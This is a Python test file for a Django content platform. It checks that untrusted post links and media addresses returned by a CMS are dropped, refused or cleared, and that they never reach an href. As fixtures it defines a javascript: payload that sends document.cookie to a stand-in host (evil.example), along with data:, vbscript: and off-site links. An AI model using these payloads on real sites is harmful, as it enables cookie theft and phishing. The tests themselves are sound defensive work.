"""What a CMS answers is untrusted input: a post link or media address that is not an http(s)
URL on the CMS's own site is never stored, on any path (publish, sync, webhook), and an address
stored before that rule never reaches an ``href``."""

import importlib
import json
import time

import pytest
from django.apps import apps

from inkwell.api.exceptions import CMSPublishFailed
from inkwell.console.templatetags.console import outside_link
from inkwell.integration.services import signature_of
from inkwell.integration.tests.factories import make_integration
from inkwell.publishing.models import PublishingRecord, PublishStatus, PublishTrigger
from inkwell.publishing.services import publish_now
from inkwell.publishing.tests.helpers import connect, ready_content
from inkwell.tenancy import services as tenancy
from inkwell.writer.models import SiteStatus
from inkwell.writer.tests.factories import make_content

pytestmark = pytest.mark.django_db

SCRIPT_LINK = "javascript:fetch('//evil.example/'+document.cookie)"
WEBHOOK = "/api/v1/integration/webhook/cms/"


@pytest.fixture(autouse=True)
def cms_settings(settings):
    settings.INKWELL_CMS = {**settings.INKWELL_CMS, "ALLOW_PRIVATE_URLS": True}


@pytest.mark.parametrize("link", [SCRIPT_LINK, "data:text/html,<script>alert(1)</script>", "https://evil.example/phish/", "//evil.example/x"])
def test_a_post_link_off_the_cms_site_is_not_stored_when_publishing(tenant, cms_server, link):
    connect(tenant, cms_server)
    cms_server.hostile_post_link = link
    content = ready_content(tenant, images=False)

    outcome = publish_now(content=content, user=tenant.owner)

    assert outcome.published
    content.refresh_from_db()
    assert content.site_status == SiteStatus.PUBLISHED and content.external_url == ""
    assert PublishingRecord.objects.for_account(tenant.account).get().external_url == ""


def test_a_media_address_off_the_cms_site_fails_the_publication_and_stores_nothing(tenant, cms_server):
    connect(tenant, cms_server)
    cms_server.hostile_media_url = SCRIPT_LINK
    content = ready_content(tenant)

    with pytest.raises(CMSPublishFailed):
        publish_now(content=content, user=tenant.owner)

    record = PublishingRecord.objects.for_account(tenant.account).get()
    assert record.error == "The CMS stored the file at an address outside its own site"
    assert not content.images.exclude(external_url="").exists()


def test_a_webhook_link_off_the_cms_site_is_not_stored(api_client, tenant):
    integration = make_integration(tenant)
    key = tenancy.api_key_create(account=tenant.account, user=tenant.owner, name="WordPress", site=tenant.site)[1]
    content = make_content(tenant, external_id="42")
    raw = json.dumps({"event": "post.updated", "post": {"id": "42", "status": "publish", "link": "https://evil.example/post/"}}).encode()
    stamp = str(int(time.time()))
    headers = {"X-Inkwell-Timestamp": stamp, "X-Inkwell-Signature": f"sha256={signature_of(secret=integration.webhook_secret, timestamp=stamp, raw_body=raw)}", "Authorization": f"ApiKey {key}"}

    response = api_client.post(WEBHOOK, data=raw, content_type="application/json", headers=headers)

    assert response.status_code == 200, response.content
    content.refresh_from_db()
    assert (content.site_status, content.external_url) == (SiteStatus.PUBLISHED, "")


def test_a_webhook_link_that_is_not_a_web_address_is_refused(api_client, tenant):
    integration = make_integration(tenant)
    key = tenancy.api_key_create(account=tenant.account, user=tenant.owner, name="WordPress", site=tenant.site)[1]
    raw = json.dumps({"event": "post.updated", "post": {"id": "42", "status": "publish", "link": "ftp://blog.example.com/post/"}}).encode()
    stamp = str(int(time.time()))
    headers = {"X-Inkwell-Timestamp": stamp, "X-Inkwell-Signature": f"sha256={signature_of(secret=integration.webhook_secret, timestamp=stamp, raw_body=raw)}", "Authorization": f"ApiKey {key}"}

    response = api_client.post(WEBHOOK, data=raw, content_type="application/json", headers=headers)

    assert response.status_code == 400
    assert response.json()["errors"] == {"post.link": ["Enter a valid URL."]}


@pytest.mark.parametrize("url", [SCRIPT_LINK, " javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "/relative/path", "//evil.example/", ""])
def test_the_link_filter_refuses_anything_but_an_absolute_web_address(url):
    assert outside_link(url) == ""


def test_the_link_filter_keeps_a_web_address():
    assert outside_link("https://blog.example.com/post/?a=1&b=2") == "https://blog.example.com/post/?a=1&b=2"


def test_the_migrations_clear_stored_addresses_that_are_not_web_addresses(tenant):
    kept = make_content(tenant, external_url="https://blog.example.com/kept/")
    cleared = make_content(tenant, external_url=SCRIPT_LINK)
    record = PublishingRecord.objects.create(
        account=tenant.account, site=tenant.site, content=cleared, platform="wordpress", trigger=PublishTrigger.MANUAL, status=PublishStatus.SUCCEEDED, external_url=SCRIPT_LINK
    )

    importlib.import_module("inkwell.writer.migrations.0005_web_urls_only").clear_other_addresses(apps, None)
    importlib.import_module("inkwell.publishing.migrations.0005_web_urls_only").clear_other_addresses(apps, None)

    kept.refresh_from_db(), cleared.refresh_from_db(), record.refresh_from_db()
    assert (kept.external_url, cleared.external_url, record.external_url) == ("https://blog.example.com/kept/", "", "")
